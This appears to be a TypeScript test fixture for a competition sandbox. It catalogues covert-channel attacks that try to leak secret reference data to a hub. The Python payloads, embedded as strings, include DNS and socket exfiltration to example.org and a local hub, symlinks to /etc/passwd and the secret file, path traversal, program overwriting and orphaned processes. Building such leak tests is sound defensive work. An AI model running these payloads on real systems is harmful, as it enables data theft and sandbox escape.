import { type Files, zip } from '../../harness/challenge.ts';

/** The secrets: one dataset for each, so that one submission to a phase with a task for each tries all of them. */
export const SECRETS = ['0', '1', '2', '3'] as const;

/** Lie in the input and in the reference part of the data. Nothing that holds one of them in any form may reach the hub. */
export const MARK = 'patient-7d1f52c09ab3';
export const REFERENCE_MARK = 'answer-51be02f7cd46';
/** The same, at the site that has opened the gate. */
export const OPENED_MARK = 'opened-c81e0d7a365f';

/** Ways to the network, to the hub above all, by names and by addresses. */
const NETWORK = `[attempt(call) for call in [lambda: socket.getaddrinfo(f'{s}.{mark}.example.org', 80), lambda: socket.create_connection(('127.0.0.1', hub), 1).sendall(f'GET /{mark}/{s} HTTP/1.0\\r\\n\\r\\n'.encode()), lambda: socket.create_connection(('10.0.0.1', 80), 1), lambda: socket.socket(socket.AF_UNIX).connect('\\0' + mark), lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mark.encode(), ('255.255.255.255', 53))]]`;

export interface Attack {
  /** Python of the scoring program: knows `s`, the secret as a number, `mark`, `scores(text)` and `out`, its output folder. Score 0.5 by itself. */
  readonly scoring?: string;
  /** Python of the participant: runs next to the input part of the data, and knows the same, but has no scores to write. */
  readonly prediction?: string;
  /** How many different things the hub may see over all secrets; 1 for a way out that is shut. */
  readonly seen: number;
  /** How many it sees at a site that has opened the gate as far as a policy can: shows that what is shut elsewhere would be counted. */
  readonly opened?: number;
}

/** Everything that a colluding participant and organizer have tried so far. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  // Scores
  'scores: low digits': { scoring: `scores('{"score": 0.5000%d}' % s)`, seen: 1, opened: 4 },
  'scores: digits beyond a double': { scoring: `scores('{"score": 0.50000000000000000000%d}' % s)`, seen: 1 },
  'scores: ways to write a number': {
    scoring: `scores('{"score": %s}' % ['0.5', '5e-1', '0.500', '50E-2'][s])`,
    seen: 1,
  },
  'scores: the sign of nothing': {
    scoring: `scores('{"score": %s}' % ['0', '-0', '-0.0', '0e7'][s])`,
    seen: 1,
  },
  'scores: names of other keys': { scoring: `scores('{"score": 0.5, "x%d": 1}' % s)`, seen: 1, opened: 1 },
  'scores: number of other keys': {
    scoring: `scores(json.dumps({'score': 0.5, **{f'x{i}': 1 for i in range(s + 1)}}))`,
    seen: 1,
  },
  'scores: other letters for the same key': {
    scoring: `scores('{%s: 0.5, "other": 0.5}' % ['"sc\\u006fre"', '"\\\\u0073core"', '"scor\\\\u0065"', '"score"'][s])`,
    seen: 1,
  },
  'scores: a key twice': { scoring: `scores('{"score": 0.%d, "score": 0.5}' % s)`, seen: 1 },
  'scores: order of keys': {
    scoring: `scores('{"other": 0.5, "score": 0.5}' if s % 2 else '{"score": 0.5, "other": 0.5}')`,
    seen: 1,
  },
  'scores: halves of letters in other keys': {
    scoring: `scores('{"score": 0.5, "other": 0.5, "\\\\ud80%d": 1}' % s)`,
    seen: 1,
  },
  'scores: too small to be told from nothing': {
    scoring: `scores('{"score": %s}' % ['1e-400', '-1e-400', '5e-324', '-5e-324'][s])`,
    seen: 1,
  },
  'scores: white space and size of the file': {
    scoring: `scores('{"score": 0.5' + ' ' * 10000 * s + '}')`,
    seen: 1,
  },
  'scores: huge numbers': { scoring: `scores('{"score": 1%s}' % ('0' * (10 + s)))`, seen: 1, opened: 1 },
  'scores: beyond the range': { scoring: `scores('{"score": %d}' % (2 + s))`, seen: 1, opened: 4 },
  'scores: payload of NaN': {
    scoring: `scores('{"score": %s}' % ['NaN', '-NaN', 'Infinity', '-Infinity'][s])`,
    seen: 1,
  },
  'scores: text and truth for numbers': {
    scoring: `scores('{"score": %s}' % ['"0.5"', '"0.50"', 'true', 'false'][s])`,
    seen: 1,
  },
  'scores: trees of lists and objects': {
    scoring: `scores('{"score": %s}' % ('[' * (s + 1) + ']' * (s + 1)))`,
    seen: 1,
  },
  'scores: which file they are in': {
    scoring: `scores('{"score": 0.5}') if s % 2 else (os.remove(out + '/scores.json'), open(out + '/scores.txt', 'w').write('score: 0.5'))`,
    seen: 1,
  },
  'scores: numbers of cases': {
    scoring: `open(out + '/cases.json', 'w').write(str(100 + s))`,
    seen: 1,
    opened: 1,
  },
  'scores: present or absent': {
    scoring: `scores(json.dumps({'score': 0.5, **({'other': 0.5} if s % 2 else {})}))`,
    seen: 2,
  },
  'scores: as they are': { scoring: `scores('{"score": 0.%d}' % s)`, seen: 4 },

  // What is printed
  'logs: text on both streams': {
    scoring: `print(s, mark); print(s, mark, file=sys.stderr)`,
    seen: 1,
    opened: 4,
  },
  'logs: escape sequences and bytes that are no UTF-8': {
    scoring: `os.write(1, b'\\x1b[%dm\\x1b]0;%d\\x07' % (30 + s, s) + bytes([0xf0 + s, 0xff, 0]))`,
    seen: 1,
  },
  'logs: how much': { scoring: `print('x' * (1 + s * 100_000))`, seen: 1, opened: 2 },
  'logs: when': { scoring: `[(print('.', flush=True), time.sleep(0.05)) for _ in range(s * 2)]`, seen: 1 },

  // Files
  'files: the report': {
    scoring: `open(out + '/detailed_results.html', 'w').write(f'<p>{s} {mark}')`,
    seen: 1,
    opened: 4,
  },
  'files: names': { scoring: `open(f'{out}/{mark}-{s}', 'w')`, seen: 1 },
  'files: names and paths of archives': {
    scoring: `[attempt(lambda path=path: open(path, 'w').write(mark)) for path in [f'{out}/{s}.zip', f'{out}/../{s}.zip', f'{out}/..%2f{s}', f'{out}/../../outgoing/{s}', f'{out}/{mark}\\n{s}.html']]`,
    seen: 1,
  },
  'files: how many': { scoring: `[open(f'{out}/{i}', 'w') for i in range(s * 50)]`, seen: 1 },
  'files: sizes, also of holes': { scoring: `open(out + '/big', 'w').truncate(1 + s * 1_000_000)`, seen: 1 },
  'files: permissions and times': {
    scoring: `os.chmod(out, [0o700, 0o755, 0o500, 0o555][s]); os.utime(out + '/scores.json', (s, s))`,
    seen: 1,
  },
  'files: links to the data': {
    scoring: `os.remove(out + '/scores.json'); os.symlink('/app/input/ref/secret.txt', out + '/scores.json')`,
    seen: 1,
    opened: 1,
  },
  'files: hard links to the data': {
    scoring: `attempt(os.link, '/app/input/ref/secret.txt', out + '/detailed_results.html')`,
    seen: 1,
  },
  'files: a pipe, a socket, a device': {
    scoring: `os.remove(out + '/scores.json'); [attempt(os.mkfifo, out + '/scores.json'), attempt(os.mknod, out + '/zero', 0o020666, os.makedev(1, 5)), socket.socket(socket.AF_UNIX).bind(f'{out}/{s}')]`,
    seen: 1,
  },
  'files: folders deeper than a path can be long': {
    scoring: `os.chdir(out); [(os.mkdir('d' * 200), os.chdir('d' * 200)) for _ in range(40 + s * 40)]`,
    seen: 1,
  },
  'files: written over programs and predictions': {
    scoring: `[attempt(lambda path=path: open(path, 'w').write(str(s))) for path in ['/app/program/score.py', '/app/input/res/attack.py', '/app/input/res/metadata', '/app/shared/x', '/tmp/x', '/dev/shm/x', '/var/tmp/x']]`,
    seen: 1,
  },

  // How it ends
  'end: exit codes': { scoring: `os._exit(1 + s)`, seen: 1, opened: 1 },
  'end: signals': { scoring: `os.kill(os.getpid(), [6, 9, 11, 15][s])`, seen: 1 },
  'end: crashes': {
    scoring: `[lambda: os.abort(), lambda: os.kill(os.getpid(), 11), lambda: os.execv('/none', ['']), lambda: sys.exit(mark)][s]()`,
    seen: 1,
  },
  'end: words of exceptions': { scoring: `raise Exception(f'{s} {mark}')`, seen: 1, opened: 4 },
  'end: which code': {
    scoring: `[lambda: os._exit(1), lambda: os.remove(out + '/scores.json'), lambda: scores('{"score": 7}'), lambda: scores('{"score": "7"}')][s]()`,
    seen: 4,
  },
  'end: scores or a code': { scoring: `s % 2 and os._exit(1)`, seen: 2 },
  'end: processes left behind': {
    scoring: `[os.fork() or (os.setsid(), time.sleep(60), os._exit(0)) for _ in range(s) if True] if False else [subprocess.Popen(['sleep', '60'], start_new_session=True) for _ in range(s)]`,
    seen: 1,
  },
  'end: run time within a bucket': { scoring: `time.sleep(s * 0.02)`, seen: 1 },

  // Ways around the node
  'network: names, addresses, sockets': { scoring: NETWORK, seen: 1 },

  // The participant's own step
  'prediction: text, names and sizes': {
    prediction: `print(s, mark); open(f'{out}/{mark}-{s}', 'w').write('x' * s * 1000)`,
    seen: 1,
  },
  'prediction: exit codes and signals': { prediction: `os.kill(os.getpid(), [6, 9, 11, 15][s])`, seen: 1 },
  'prediction: run time within a bucket': { prediction: `time.sleep(s * 0.02)`, seen: 1 },
  'prediction: links out of its folder': {
    prediction: `os.symlink(['/app/input_data', '/etc/passwd', '/proc/1/root', '/'][s], out + '/x')`,
    seen: 1,
  },
  'prediction: network': { prediction: NETWORK, seen: 1 },
  'prediction: crashes': {
    prediction: `[lambda: os.abort(), lambda: 1 / 0, lambda: os.execv('/none', ['']), lambda: sys.exit(mark)][s]()`,
    seen: 1,
  },
  'prediction: which code': {
    prediction: `[lambda: 0, lambda: os.symlink('/', out + '/x'), lambda: open(out + '/metadata', 'w'), lambda: 0][s]()`,
    seen: 3,
  },
};

/** On a site that lets text out, scrubbed and capped, and a report: how many bytes leave is what it costs. */
export const WORDY_ATTACKS: Readonly<Record<string, Attack>> = {
  'text: a digit': { scoring: `print(s)`, seen: 4 },
  'text: more than there is room for': { scoring: `[print('x' * 30, s) for _ in range(50 + s)]`, seen: 4 },
  'text: a line without end': { scoring: `print(str(s) * 20_000)`, seen: 1 },
  'text: escape sequences': { scoring: `os.write(1, b'\\x1b[3%dmred\\x1b[0m\\n' % s)`, seen: 1 },
  'text: bytes that are no UTF-8': { scoring: `os.write(1, bytes([0xf8 + s]) + b'\\n')`, seen: 1 },
  'text: which of the streams': { scoring: `print('x', file=[sys.stdout, sys.stderr][s % 2])`, seen: 1 },
  'text: when': { scoring: `[(print('.', flush=True), time.sleep(0.02 * s)) for _ in range(3)]`, seen: 1 },
  'text: beside a failure': { scoring: `print(s); os._exit(1)`, seen: 4 },
  'report: a digit': { scoring: `open(out + '/detailed_results.html', 'w').write(f'<p>{s}')`, seen: 4 },
  'report: more than there is room for': {
    scoring: `open(out + '/detailed_results.html', 'w').write('x' * 65 + str(s))`,
    seen: 1,
  },
  'report: names of files': { scoring: `open(f'{out}/{s}.html', 'w').write('x')`, seen: 1 },
};

/** On columns of two values: everything at once, and nothing else. */
export const NARROW_ATTACK: Attack = {
  scoring: `[lambda: scores('{"score": 0}'), lambda: scores('{"score": 1}'), lambda: scores('{}'), lambda: os._exit(1)][s]()`,
  seen: 4,
};

/** How many buckets it takes is one of the ways out. */
export const SLOW_ATTACK: Attack = { scoring: `time.sleep(s * 2)`, seen: 1 };

const PRELUDE = `import json, os, socket, subprocess, sys, time
def attempt(call, *arguments):
    try: return call(*arguments)
    except Exception as error: return error
`;

/** The submission of an attack: the participant's program, and for the scoring program what it is to do. */
export function submissionOf({ scoring, prediction }: Omit<Attack, 'seen'>, hubPort: number): Buffer {
  const files: Record<string, string> = {};
  if (scoring !== undefined) files['attack.py'] = scoring;
  if (prediction === undefined) return zip({ 'answer.txt': '1', ...files });
  const known = `${PRELUDE}hub = ${hubPort}
s, mark = int(open('/app/input_data/secret.txt').read()), open('/app/input_data/mark.txt').read()
out = '/app/output'
`;
  return zip({ metadata: 'command: python3 main.py\n', 'main.py': `${known}${prediction}\n`, ...files });
}

/** Does what the submission says, with the answers at hand. */
export function colludingScorer(hubPort: number): Files {
  return {
    metadata: 'command: python3 score.py\n',
    'score.py': `${PRELUDE}hub = ${hubPort}
out = '/app/output'
def scores(text): open(out + '/scores.json', 'w').write(text)
s, mark = int(open('/app/input/ref/secret.txt').read()), open('/app/input/ref/mark.txt').read()
scores('{"score": 0.5, "other": 0.5}')
plan = '/app/input/res/attack.py'
if os.path.exists(plan): exec(compile(open(plan).read(), plan, 'exec'))
`,
  };
}
